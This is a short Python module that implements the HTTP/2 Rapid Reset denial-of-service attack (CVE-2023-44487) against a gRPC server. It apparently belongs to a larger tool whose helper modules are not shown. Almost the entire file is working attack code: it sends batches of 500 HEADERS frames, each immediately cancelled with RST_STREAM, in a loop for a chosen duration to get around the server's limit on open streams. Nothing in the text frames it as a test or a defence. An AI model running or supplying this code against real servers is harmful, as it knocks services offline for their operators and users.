"""Rapid reset (CVE-2023-44487): calls are opened and reset at once, so that no bound of open streams is met. A call
takes 28 bytes."""

import struct

from . import grpc_wire, http2

CALLS_PER_WRITE = 500
CANCEL = struct.pack(">I", http2.CANCEL)
FIRST, LATER = grpc_wire.remembered_headers(grpc_wire.PUBLISH)


def turn(client, until):
    out = bytearray()
    for _ in range(CALLS_PER_WRITE):
        stream = client.take_stream()
        out += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, FIRST if stream == 1 else LATER)
        out += http2.frame(http2.RST_STREAM, 0, stream, CANCEL)
    client.send(bytes(out), until)


def run(address, seconds):
    return grpc_wire.repeat(address, seconds, turn)
